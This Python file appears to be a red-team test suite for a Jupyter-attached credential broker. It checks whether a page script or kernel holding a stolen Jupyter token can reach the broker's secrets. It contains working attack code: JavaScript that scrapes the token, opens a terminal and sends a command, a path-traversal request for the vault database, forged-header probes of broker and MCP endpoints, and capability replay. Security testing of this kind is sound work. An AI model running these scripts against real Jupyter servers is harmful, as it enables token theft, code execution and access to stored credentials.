"""The Jupyter token, stolen by a page's script, and everything that it might open (R79, X04).

What R79 judges: does anything of the vault hang on it? The row is open when, with the token, a
script of the page or code in the kernel gets a secret, runs code outside the wall, moves a sign-in
on, is known to the broker, or makes a capability that works where it was not given.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from consent_rows import decided, sign_in
from jupyter_process import LOADED, PRESSED, TOKEN
from page_rows import payload, wait

from browser import Tab

_STEAL = """
const told = JSON.parse(document.getElementById('jupyter-config-data')?.textContent || '{}');
const seen = [location.href, document.referrer,
    ...performance.getEntries().map(entry => entry.name), await (await fetch(BASE + 'lab')).text()];
const query = seen.join(' ').match(/[?&]token=([\\w-]+)/);
return told.token || (query || [])[1] || '';
"""

_WITH = """
const TOKEN = %s;
const ask = (method, path, body, more) => fetch(new URL(path, location.origin + BASE), {method,
    credentials: 'omit', headers: {'Authorization': 'token ' + TOKEN, ...more},
    body: body && JSON.stringify(body)});
"""

_TERMINAL = """
const made = await ask('POST', 'api/terminals', {});
if (!made.ok) return 'terminals ' + made.status;
const shell = new WebSocket('ws://' + location.host + BASE + 'terminals/websocket/' +
    (await made.json()).name + '?token=' + TOKEN);
await new Promise(done => shell.onopen = done); await sleep(500);
shell.send(JSON.stringify(['stdin', %s + '\\r'])); await sleep(3000); return 'a terminal';
"""

_PAGES = """
let said = '';
for (const path of PATHS) {
    const answer = await ask('GET', path).catch(() => ({status: 0, text: () => ''}));
    const text = await answer.text();
    said += path.split('?')[0] + ' ' + answer.status + ' ';
    const nonce = (text.match(/approve\\?auth=([\\w-]+)/) || [])[1];
    if (nonce) await ask('GET', PAGE + '/approve?auth=' + nonce);
}
for (const method of ['POST', 'PUT', 'DELETE', 'PATCH'])
    for (const path of [PAGE, PAGE + '/approve', 'valet/unlock', 'valet/connections'])
        said += (await ask(method, path, {}).catch(() => ({status: 0}))).status + ' ';
return said;
"""

_BROKER = """
let said = '';
for (const path of ['/connections', '/status', '/mcp', '/connect']) {
    const answer = await ask(path === '/connect' || path === '/mcp' ? 'POST' : 'GET',
        'http://127.0.0.1:' + PORT + path, path === '/connections' ? undefined : {},
        {'Authorization': 'Bearer ' + TOKEN}).catch(() => ({status: 0}));
    said += path + ' ' + answer.status + ' ';
    if (answer.ok) return 'CONTROL the broker takes the Jupyter token: ' + said;
}
return said;
"""


_ENDPOINT = """
const INITIALIZE = {jsonrpc: '2.0', id: 1, method: 'initialize', params: {
    protocolVersion: '2025-11-25', capabilities: {}, clientInfo: {name: 'red', version: '1'}}};
let said = '';
for (const scheme of ['Bearer', 'token']) {
    const more = {'Authorization': scheme + ' ' + TOKEN, 'Content-Type': 'application/json',
        'Accept': 'application/json, text/event-stream'};
    for (const [method, body] of [['POST', INITIALIZE], ['GET'], ['DELETE']])
        for (const path of ['valet/mcp', ...(method === 'POST' ? ['valet/oauth/register'] : [])]) {
            const answer = await ask(method, path, body, more).catch(() => ({status: 0}));
            said += method + ' ' + path + ' ' + answer.status + ' ';
            // Not "no session": who gets that far has been let in.
            if (![0, 401, 403, 405].includes(answer.status))
                return 'CONTROL the endpoint takes a script with the Jupyter token: ' + said;
        }
}
return said;
"""

_ENDPOINT_FROM_THE_KERNEL = """
import json, urllib.request
body = {{"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {{
    "protocolVersion": "2025-11-25", "capabilities": {{}},
    "clientInfo": {{"name": "red", "version": "1"}}}}}}
request = urllib.request.Request({url!r}, json.dumps(body).encode(), {{
    "Authorization": "Bearer " + {token!r}, "Content-Type": "application/json",
    "Accept": "application/json, text/event-stream"}})
try:
    with urllib.request.urlopen(request, timeout=20) as answer:
        print("CONTROL the endpoint takes a kernel with the Jupyter token", answer.status)
except OSError as error:
    print("valet/mcp", getattr(error, "code", error))
"""


def token(tab: Tab, mark: Path) -> str:
    """R79."""
    stolen = tab.script(_STEAL)
    if not stolen or stolen.startswith("raised"):
        return f"the page does not say the token {stolen}"
    use = _WITH % json.dumps(stolen)
    tries = [_outside(tab, mark, use), _sign_ins(tab, use), _at_the_broker(tab, use, stolen),
             _at_the_endpoint(tab, use, stolen), _minted(tab, stolen)]  # fmt: skip
    won = [said for said in tries if said.startswith("CONTROL") or mark.exists()]
    return (won or ["the token is had; with it: " + "; ".join(tries)])[0]


def _outside(tab: Tab, mark: Path, use: str) -> str:
    command = payload(tab, mark)
    said = tab.script(use + _TERMINAL % json.dumps(command))
    return said + wait(mark, 8 if said == "a terminal" else 0)


def _sign_ins(tab: Tab, use: str) -> str:
    transaction = sign_in(tab)
    page = f"valet/connect/{transaction}"
    paths = [
        page, "valet/unlock", "valet/connections", f"valet/done/{transaction}",
        "valet/callback/canary?code=red&state=red", "api/contents/..%2fstate%2fvault.db",
    ]  # fmt: skip
    facts = f"const PAGE = {json.dumps(page)}, PATHS = {json.dumps(paths)};"
    return decided(tab, transaction, tab.script(use + facts + _PAGES, 60))


_FROM_THE_KERNEL = """
import json, os, urllib.error, urllib.request
said = []
for scheme in ("Bearer", "token"):
    for method, path in (("GET", "/connections"), ("GET", "/status"), ("POST", "/mcp")):
        request = urllib.request.Request(os.environ["JUPYTER_VALET_URL"] + path,
            b"{{}}" if method == "POST" else None,
            {{"Authorization": scheme + " " + {token!r}, "Content-Type": "application/json"}})
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:
                said = ["CONTROL the broker takes the Jupyter token: " + path]
                break
        except OSError as error:
            said.append(path + " " + str(getattr(error, "code", error)))
print(*said)
"""


def _at_the_broker(tab: Tab, use: str, stolen: str) -> str:
    port = tab.world.target(tab.world.home)["broker_port"]
    from_page = tab.script(use + f"const PORT = {port};" + _BROKER)
    if from_page.startswith("CONTROL"):
        return from_page
    from_kernel = tab.world.attacker.run(_FROM_THE_KERNEL.format(token=stolen))
    return from_kernel if from_kernel.startswith("CONTROL") else f"{from_page}{from_kernel}".strip()


def _at_the_endpoint(tab: Tab, use: str, stolen: str) -> str:
    """Come as a program outside of the notebooks, which may show the Jupyter token."""
    from_page = tab.script(use + _ENDPOINT)
    if from_page.startswith("CONTROL"):
        return from_page
    server = tab.world.server
    url = f"http://127.0.0.1:{server.port}{server.base}valet/mcp"
    code = _ENDPOINT_FROM_THE_KERNEL.format(url=url, token=stolen)
    from_kernel = tab.world.attacker.run(code)
    return from_kernel if from_kernel.startswith("CONTROL") else f"{from_page}{from_kernel}".strip()


_REPLAY = """
import os, urllib.request
request = urllib.request.Request(os.environ["JUPYTER_VALET_URL"] + "/connections",
    headers={{"Authorization": "Bearer {capability}"}})
try:
    with urllib.request.urlopen(request, timeout=20) as answer:
        print("CONTROL a capability made with the token works in another kernel")
except OSError as error:
    print("capability", getattr(error, "code", error))
"""


def _minted(tab: Tab, stolen: str) -> str:
    """Start a kernel with the token, take its capability out, and use it from the old one."""
    made: Any = tab.world.server.call("POST", "api/kernels", {}, Authorization=f"token {stolen}")
    if made.status != 201:
        return f"kernels {made.status}"
    from channel import Kernel

    other = Kernel(tab.world.server, str(json.loads(made.body)["id"]))
    try:
        said = tab.world.attacker.run(_REPLAY.format(capability=other.capability))
    finally:
        tab.world.server.call("DELETE", f"api/kernels/{other.id}")
    return said.strip()


def elsewhere(tab: Tab, mark: Path) -> str:
    """X04: whoever got the token sent, is no browser, reaches the server, and lies as one would."""
    transaction, server = sign_in(tab), tab.world.server
    bearer = {"Authorization": f"token {TOKEN}"}
    page = server.request(
        "GET", f"valet/connect/{transaction}", {**LOADED, **bearer}, login=False
    ).body
    found = re.search(r"approve\?auth=([\w-]+)", page)
    press = f"valet/connect/{transaction}/approve?auth={found[1] if found else ''}"
    answer = server.request("GET", press, {**PRESSED, **bearer}, login=False)
    return decided(tab, transaction, f"{answer.status}")
